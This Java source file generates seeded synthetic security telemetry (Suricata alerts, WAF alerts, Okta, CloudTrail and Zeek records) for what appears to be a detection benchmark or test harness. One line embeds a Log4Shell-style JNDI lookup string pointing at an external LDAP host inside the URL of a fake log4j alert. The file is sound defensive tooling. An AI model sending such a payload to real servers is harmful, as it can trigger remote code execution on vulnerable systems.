package io.protect.tools.launcher;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generates realistic alerts, reproducibly from a seed: Suricata EVE alerts (the shape Suricata 7
 * writes, with Emerging-Threats-style signatures, ATT&CK metadata, flow and app-layer fields) and
 * alerts of a generic JSON shape; for the benchmark also Okta System Log events, AWS CloudTrail
 * records and Zeek conn/dns records, in the shapes those products write. Nothing is copied from
 * captured data; addresses mix internal ranges, documentation ranges (RFC 5737) and well-known
 * public hosts so that geo lookups and threat-intel matches both show.
 */
public final class SampleGenerator {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final DateTimeFormatter EVE_TIME =
            DateTimeFormatter.ofPattern("uuuu-MM-dd'T'HH:mm:ss.SSSSSSxx").withZone(ZoneOffset.UTC);

    /** A signature as a rule would carry it. */
    record Signature(long id, int rev, String text, String category, int severity, String appProto,
            int destPort, String tacticId, String tacticName, String techniqueId, String techniqueName) {
    }

    private static final List<Signature> SIGNATURES = List.of(
            new Signature(2_001_219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "ssh", 22,
                    "TA0043", "Reconnaissance", "T1595", "Active_Scanning"),
            new Signature(2_009_582, 3, "ET SCAN NMAP -sS window 1024", "Attempted Information Leak", 2, null, 443,
                    "TA0043", "Reconnaissance", "T1595", "Active_Scanning"),
            new Signature(2_024_897, 4, "ET USER_AGENTS Go HTTP Client User-Agent", "Misc activity", 3, "http", 80,
                    null, null, null, null),
            new Signature(2_027_865, 3, "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 3, "dns", 53,
                    null, null, null, null),
            new Signature(2_030_358, 2, "ET MALWARE Cobalt Strike Beacon Observed", "A Network Trojan was detected", 1, "http", 443,
                    "TA0011", "Command_And_Control", "T1071", "Application_Layer_Protocol"),
            new Signature(2_018_959, 4, "ET POLICY PE EXE or DLL Windows file download HTTP", "Potential Corporate Privacy Violation",
                    2, "http", 80, "TA0002", "Execution", "T1204", "User_Execution"),
            new Signature(2_013_028, 7, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2, "http", 80,
                    null, null, null, null),
            new Signature(2_034_647, 2, "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain",
                    1, "http", 8080, "TA0001", "Initial_Access", "T1190", "Exploit_Public_Facing_Application"),
            new Signature(2_011_716, 5, "ET SCAN Sipvicious User-Agent Detected (friendly-scanner)", "Attempted Information Leak",
                    2, null, 5060, "TA0043", "Reconnaissance", "T1595", "Active_Scanning"),
            new Signature(2_023_753, 3, "ET TROJAN Possible Metasploit Payload Common Construct Bind_API (from server)",
                    "A Network Trojan was detected", 1, null, 4444, "TA0011", "Command_And_Control", "T1095",
                    "Non-Application_Layer_Protocol"),
            new Signature(2_210_045, 2, "SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode", 3, null, 443,
                    null, null, null, null),
            new Signature(2_025_275, 2, "ET EXPLOIT Possible SMBv1 Remote Code Execution (EternalBlue)",
                    "Attempted Administrator Privilege Gain", 1, "smb", 445, "TA0008", "Lateral_Movement", "T1210",
                    "Exploitation_of_Remote_Services"));

    /** Public hosts that geolocate well and documentation-range hosts that threat-intel feeds name. */
    private static final List<String> EXTERNAL = List.of("45.33.32.156", "185.220.101.34", "91.189.91.39",
            "104.16.132.229", "151.101.1.69", "203.0.113.66", "198.51.100.23", "193.0.14.129", "139.162.184.71",
            "2a01:4f8:c17:1a2b::2");
    private static final List<String> HOSTNAMES = List.of("updates.example.net", "cdn.example.org", "login.example.com",
            "files.example.cloud", "api.example.io");
    private static final List<String> AGENTS = List.of("Go-http-client/1.1", "curl/8.5.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "python-requests/2.31.0");

    private final Random random;
    private final Instant start;

    public SampleGenerator(long seed, Instant start) {
        this.random = new Random(seed);
        this.start = start;
    }

    /** {@code count} alerts: about four in five Suricata, the rest generic. */
    public List<ObjectNode> alerts(int count) {
        List<ObjectNode> out = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            out.add(random.nextInt(5) < 4 ? suricata(i) : generic(i));
        }
        return out;
    }

    /** A generated alert with what ingest records beside it: its format and its source address. */
    public record Generated(String sourceFormat, String sourceIp, ObjectNode alert) {
    }

    /**
     * {@code count} alerts of five sources, as a mixed sensor estate sends them: about 45 % Suricata,
     * 10 % generic, 15 % each Okta, CloudTrail and Zeek.
     */
    public List<Generated> mixedSources(int count) {
        List<Generated> out = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            int pick = random.nextInt(20);
            if (pick < 9) {
                ObjectNode a = suricata(i);
                out.add(new Generated("suricata", a.path("src_ip").asText(), a));
            } else if (pick < 11) {
                ObjectNode a = generic(i);
                out.add(new Generated("generic", a.path("source_ip").asText(), a));
            } else if (pick < 14) {
                ObjectNode a = okta(i);
                out.add(new Generated("okta", a.path("client").path("ipAddress").asText(), a));
            } else if (pick < 17) {
                ObjectNode a = cloudTrail(i);
                out.add(new Generated("cloudtrail", a.path("sourceIPAddress").asText(), a));
            } else {
                ObjectNode a = zeek(i);
                out.add(new Generated("zeek", a.path("id.orig_h").asText(), a));
            }
        }
        return out;
    }

    ObjectNode suricata(int i) {
        Signature sig = SIGNATURES.get(random.nextInt(SIGNATURES.size()));
        boolean inbound = random.nextBoolean();
        String internal = "10." + (1 + random.nextInt(3)) + "." + random.nextInt(8) + "." + (10 + random.nextInt(200));
        String external = EXTERNAL.get(random.nextInt(EXTERNAL.size()));
        String src = inbound ? external : internal;
        String dst = inbound ? internal : external;
        int ephemeral = 32768 + random.nextInt(28000);
        Instant time = start.plusMillis(i * 37L + random.nextInt(30));
        ObjectNode a = JSON.createObjectNode();
        a.put("timestamp", EVE_TIME.format(time));
        a.put("flow_id", Math.abs(random.nextLong() % 2_251_799_813_685_248L));
        a.put("in_iface", "eth1");
        a.put("event_type", "alert");
        a.put("src_ip", src);
        a.put("src_port", ephemeral);
        a.put("dest_ip", dst);
        a.put("dest_port", sig.destPort());
        a.put("proto", sig.destPort() == 53 || sig.destPort() == 5060 ? "UDP" : "TCP");
        a.put("community_id", "1:" + base64(20));
        ObjectNode alert = a.putObject("alert");
        alert.put("action", "allowed");
        alert.put("gid", 1);
        alert.put("signature_id", sig.id());
        alert.put("rev", sig.rev());
        alert.put("signature", sig.text());
        alert.put("category", sig.category());
        alert.put("severity", sig.severity());
        ObjectNode metadata = alert.putObject("metadata");
        metadata.putArray("created_at").add("20" + (15 + random.nextInt(9)) + "_0" + (1 + random.nextInt(9)) + "_1" + random.nextInt(9));
        metadata.putArray("signature_severity").add(sig.severity() == 1 ? "Major" : sig.severity() == 2 ? "Minor" : "Informational");
        if (sig.techniqueId() != null) {
            metadata.putArray("mitre_tactic_id").add(sig.tacticId());
            metadata.putArray("mitre_tactic_name").add(sig.tacticName());
            metadata.putArray("mitre_technique_id").add(sig.techniqueId());
            metadata.putArray("mitre_technique_name").add(sig.techniqueName());
        }
        if (sig.appProto() != null) {
            a.put("app_proto", sig.appProto());
        }
        if ("http".equals(sig.appProto())) {
            ObjectNode http = a.putObject("http");
            http.put("hostname", HOSTNAMES.get(random.nextInt(HOSTNAMES.size())));
            http.put("url", "/" + (sig.id() == 2_034_647 ? "?x=${jndi:ldap://" + external + "/a}" : "download/" + base64(6)));
            http.put("http_user_agent", AGENTS.get(random.nextInt(AGENTS.size())));
            http.put("http_method", "GET");
            http.put("protocol", "HTTP/1.1");
            http.put("status", 200);
            http.put("length", random.nextInt(90_000));
        }
        ObjectNode flow = a.putObject("flow");
        flow.put("pkts_toserver", 1 + random.nextInt(40));
        flow.put("pkts_toclient", random.nextInt(40));
        flow.put("bytes_toserver", 60 + random.nextInt(20_000));
        flow.put("bytes_toclient", random.nextInt(200_000));
        flow.put("start", EVE_TIME.format(time.minusMillis(random.nextInt(4000))));
        return a;
    }

    ObjectNode generic(int i) {
        Instant time = start.plusMillis(i * 37L + random.nextInt(30));
        ObjectNode a = JSON.createObjectNode();
        String[] rules = {"Blocked SQL injection attempt", "Excessive failed logins", "Known bad user agent",
            "Path traversal attempt", "Request from anonymising proxy"};
        String[] severities = {"low", "medium", "high", "critical"};
        a.put("timestamp", time.toString());
        a.put("product", "edge-waf");
        a.put("vendor", "ExampleSec");
        a.put("rule_id", "WAF-" + (1000 + random.nextInt(40)));
        a.put("message", rules[random.nextInt(rules.length)]);
        a.put("severity", severities[random.nextInt(severities.length)]);
        a.put("source_ip", EXTERNAL.get(random.nextInt(EXTERNAL.size())));
        a.put("destination_ip", "10.2." + random.nextInt(8) + "." + (10 + random.nextInt(200)));
        a.put("destination_port", 443);
        a.put("http_host", HOSTNAMES.get(random.nextInt(HOSTNAMES.size())));
        ArrayNode tags = a.putArray("tags");
        tags.add("waf").add(random.nextBoolean() ? "blocked" : "logged");
        return a;
    }

    private static final List<String> USERS = List.of("alice.martin", "bob.nguyen", "carol.schmidt", "dave.okafor",
            "erin.rossi", "svc-backup");
    private static final String[][] OKTA_EVENTS = {
        {"user.session.start", "User login to Okta", "core.user_auth.login_success"},
        {"user.authentication.sso", "User single sign on to app", "app.auth.sso"},
        {"user.authentication.auth_via_mfa", "Authentication of user via MFA", "core.user.factor.attempt_success"},
        {"user.account.lock", "Max sign in attempts exceeded", "core.user_auth.account_locked"},
        {"user.account.update_password", "User update password for Okta", "core.user.config.password_update.success"},
        {"user.session.end", "User logout from Okta", "core.user_auth.logout_success"}};

    /** An Okta System Log event (the {@code /api/v1/logs} LogEvent). */
    ObjectNode okta(int i) {
        Instant time = start.plusMillis(i * 37L + random.nextInt(30));
        String[] event = OKTA_EVENTS[random.nextInt(OKTA_EVENTS.length)];
        String user = USERS.get(random.nextInt(USERS.size()));
        String ip = EXTERNAL.get(random.nextInt(EXTERNAL.size()));
        boolean failed = event[0].equals("user.account.lock") || random.nextInt(10) == 0;
        ObjectNode a = JSON.createObjectNode();
        a.put("uuid", new java.util.UUID(random.nextLong(), random.nextLong()).toString());
        a.put("published", time.toString());
        a.put("eventType", event[0]);
        a.put("version", "0");
        a.put("severity", failed ? "WARN" : "INFO");
        a.put("legacyEventType", event[2]);
        a.put("displayMessage", event[1]);
        ObjectNode actor = a.putObject("actor");
        actor.put("id", "00u" + base64(12));
        actor.put("type", "User");
        actor.put("alternateId", user + "@example.com");
        actor.put("displayName", user.replace('.', ' '));
        ObjectNode client = a.putObject("client");
        ObjectNode agent = client.putObject("userAgent");
        agent.put("rawUserAgent", AGENTS.get(random.nextInt(AGENTS.size())));
        agent.put("os", random.nextBoolean() ? "Windows 10" : "Mac OS X");
        agent.put("browser", random.nextBoolean() ? "CHROME" : "FIREFOX");
        client.put("zone", "null");
        client.put("device", "Computer");
        client.put("ipAddress", ip);
        ObjectNode geo = client.putObject("geographicalContext");
        geo.put("city", "Paris");
        geo.put("state", "Ile-de-France");
        geo.put("country", "France");
        geo.put("postalCode", "75001");
        ObjectNode outcome = a.putObject("outcome");
        outcome.put("result", failed ? "FAILURE" : "SUCCESS");
        if (failed) {
            outcome.put("reason", event[0].equals("user.account.lock") ? "LOCKED_OUT" : "INVALID_CREDENTIALS");
        }
        ObjectNode auth = a.putObject("authenticationContext");
        auth.put("authenticationStep", 0);
        auth.put("externalSessionId", "102" + base64(16));
        ObjectNode security = a.putObject("securityContext");
        security.put("asNumber", 63949);
        security.put("asOrg", "Example Hosting");
        security.put("isp", "Example Hosting");
        security.put("domain", "example.net");
        security.put("isProxy", false);
        ObjectNode transaction = a.putObject("transaction");
        transaction.put("type", "WEB");
        transaction.put("id", base64(18));
        transaction.putObject("detail");
        ObjectNode hop = a.putObject("request").putArray("ipChain").addObject();
        hop.put("ip", ip);
        hop.put("version", "V4");
        ObjectNode target = a.putArray("target").addObject();
        target.put("id", "00u" + base64(12));
        target.put("type", "User");
        target.put("alternateId", user + "@example.com");
        target.put("displayName", user.replace('.', ' '));
        return a;
    }

    private static final String[][] AWS_CALLS = {
        {"ec2.amazonaws.com", "DescribeInstances", "true"}, {"s3.amazonaws.com", "GetObject", "true"},
        {"iam.amazonaws.com", "CreateAccessKey", "false"}, {"sts.amazonaws.com", "AssumeRole", "true"},
        {"ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", "false"}, {"s3.amazonaws.com", "PutBucketPolicy", "false"},
        {"signin.amazonaws.com", "ConsoleLogin", "false"}};

    /** One AWS CloudTrail record (an element of a log file's {@code Records}). */
    ObjectNode cloudTrail(int i) {
        Instant time = start.plusMillis(i * 37L + random.nextInt(30));
        String[] call = AWS_CALLS[random.nextInt(AWS_CALLS.length)];
        String user = USERS.get(random.nextInt(USERS.size()));
        String account = "1234567890" + (10 + random.nextInt(5));
        boolean login = call[1].equals("ConsoleLogin");
        ObjectNode a = JSON.createObjectNode();
        a.put("eventVersion", "1.08");
        ObjectNode identity = a.putObject("userIdentity");
        identity.put("type", "IAMUser");
        identity.put("principalId", "AIDA" + base64(12).toUpperCase(java.util.Locale.ROOT));
        identity.put("arn", "arn:aws:iam::" + account + ":user/" + user);
        identity.put("accountId", account);
        identity.put("accessKeyId", "ASIA" + base64(12).toUpperCase(java.util.Locale.ROOT));
        identity.put("userName", user);
        a.put("eventTime", time.truncatedTo(java.time.temporal.ChronoUnit.SECONDS).toString());
        a.put("eventSource", call[0]);
        a.put("eventName", call[1]);
        a.put("awsRegion", random.nextBoolean() ? "eu-west-3" : "us-east-1");
        a.put("sourceIPAddress", EXTERNAL.get(random.nextInt(EXTERNAL.size())));
        a.put("userAgent", login ? AGENTS.get(2) : "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64");
        if (login) {
            a.putNull("requestParameters");
            a.putObject("responseElements").put("ConsoleLogin", random.nextInt(5) == 0 ? "Failure" : "Success");
            ObjectNode extra = a.putObject("additionalEventData");
            extra.put("LoginTo", "https://console.aws.amazon.com/console/home");
            extra.put("MobileVersion", "No");
            extra.put("MFAUsed", random.nextBoolean() ? "Yes" : "No");
        } else {
            ObjectNode request = a.putObject("requestParameters");
            request.put("maxResults", 50);
            request.put("resourceId", "i-0" + Long.toHexString(random.nextLong() & 0xffffffffffffL));
            a.putNull("responseElements");
            a.put("requestID", new java.util.UUID(random.nextLong(), random.nextLong()).toString());
        }
        a.put("eventID", new java.util.UUID(random.nextLong(), random.nextLong()).toString());
        a.put("readOnly", Boolean.parseBoolean(call[2]));
        a.put("eventType", login ? "AwsConsoleSignIn" : "AwsApiCall");
        a.put("managementEvent", true);
        a.put("recipientAccountId", account);
        a.put("eventCategory", "Management");
        return a;
    }

    /** A Zeek conn or dns log record as Zeek's JSON writer prints it (dotted {@code id.*} names). */
    ObjectNode zeek(int i) {
        Instant time = start.plusMillis(i * 37L + random.nextInt(30));
        boolean dns = random.nextInt(3) == 0;
        ObjectNode a = JSON.createObjectNode();
        a.put("ts", time.toEpochMilli() / 1000.0);
        a.put("uid", "C" + base64(12).replace('-', 'a').replace('_', 'b'));
        a.put("id.orig_h", "10." + (1 + random.nextInt(3)) + "." + random.nextInt(8) + "." + (10 + random.nextInt(200)));
        a.put("id.orig_p", 32768 + random.nextInt(28000));
        String external = EXTERNAL.get(random.nextInt(EXTERNAL.size() - 1));
        if (dns) {
            a.put("id.resp_h", "10.0.0.53");
            a.put("id.resp_p", 53);
            a.put("proto", "udp");
            a.put("trans_id", random.nextInt(65536));
            a.put("rtt", random.nextInt(40_000) / 1e6);
            a.put("query", HOSTNAMES.get(random.nextInt(HOSTNAMES.size())));
            a.put("qclass", 1);
            a.put("qclass_name", "C_INTERNET");
            a.put("qtype", 1);
            a.put("qtype_name", "A");
            a.put("rcode", 0);
            a.put("rcode_name", "NOERROR");
            a.put("AA", false);
            a.put("TC", false);
            a.put("RD", true);
            a.put("RA", true);
            a.put("Z", 0);
            a.putArray("answers").add(external);
            a.putArray("TTLs").add(300.0);
            a.put("rejected", false);
        } else {
            a.put("id.resp_h", external);
            a.put("id.resp_p", random.nextBoolean() ? 443 : 80);
            a.put("proto", "tcp");
            a.put("service", a.path("id.resp_p").asInt() == 443 ? "ssl" : "http");
            a.put("duration", random.nextInt(30_000_000) / 1e6);
            a.put("orig_bytes", random.nextInt(20_000));
            a.put("resp_bytes", random.nextInt(400_000));
            a.put("conn_state", random.nextInt(6) == 0 ? "REJ" : "SF");
            a.put("local_orig", true);
            a.put("local_resp", false);
            a.put("missed_bytes", 0);
            a.put("history", "ShADadFf");
            a.put("orig_pkts", 5 + random.nextInt(60));
            a.put("orig_ip_bytes", 400 + random.nextInt(22_000));
            a.put("resp_pkts", 4 + random.nextInt(300));
            a.put("resp_ip_bytes", 300 + random.nextInt(420_000));
        }
        return a;
    }

    private String base64(int bytes) {
        byte[] b = new byte[bytes];
        random.nextBytes(b);
        return java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(b);
    }
}
